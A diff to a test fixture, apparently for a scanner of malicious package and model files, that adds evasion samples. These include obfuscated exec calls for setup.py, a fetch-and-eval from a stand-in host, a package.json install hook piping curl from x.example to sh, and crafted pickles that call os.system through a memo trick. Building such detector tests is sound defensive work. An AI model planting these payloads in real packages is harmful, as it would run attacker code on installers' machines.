@@ -137,7 +137,32 @@ function documents(): Sample[] {
   ];
 }
 
-export const badBypasses = (): Sample[] => [...forgedTypes(), ...documents()];
+const installers: readonly string[] = [
+  'exec(bytes([112, 97]).decode())\n',
+  "exec(''.join(chr(i) for i in [112, 97]))\n",
+  "import base64 as b, builtins\ngetattr(builtins, 'ex' + 'ec')(b.b64decode('aW1wb3J0IG9z'))\n",
+  "from urllib.request import urlopen as u\ne = eval\ne(u('http://x.example/a').read())\n",
+];
+
+/** A call out of the memo of the pickle before it, in bytes that nothing says are pickles; and far behind it. */
+function carried(between: string): Buffer {
+  const first = `N\x80\x04${short('os')}\x940${short('system')}\x94.`;
+  return Buffer.from(`${first}\x80\x04h\0h\x01\x93${between}${short('id')}\x85R.`, 'latin1');
+}
+
+export const badBypasses = (): Sample[] => [
+  ...forgedTypes(),
+  ...documents(),
+  ...installers.map((text) => sample('hidden code', 'setup.py', text, 'code')),
+  sample(
+    'a pipe of any program',
+    'package.json',
+    json({ scripts: { install: '$(printf cu)rl https://x.example|sh' } }),
+    'code',
+  ),
+  sample('a pickle with the memo of another', 'a.dat', carried('')),
+  sample('a pickle with the memo of another', 'a.dat', carried(`B\0\0\x02\0${'x'.repeat(0x20000)}0`)),
+];
 
 const classes: readonly (readonly [string, string])[] = [
   ['numpy.ma', 'MaskedArray'],
@@ -181,6 +206,7 @@ export function goodBypasses(): Sample[] {
       'a.bin',
       'Parameters\nN.Parameters\nN.PP',
     ),
+    sample('a version out of a file', 'setup.py', "exec(open('a/version.py').read())\n", 'code'),
     sample(
       'a list of texts put together',
       'tokenizer_config.json',
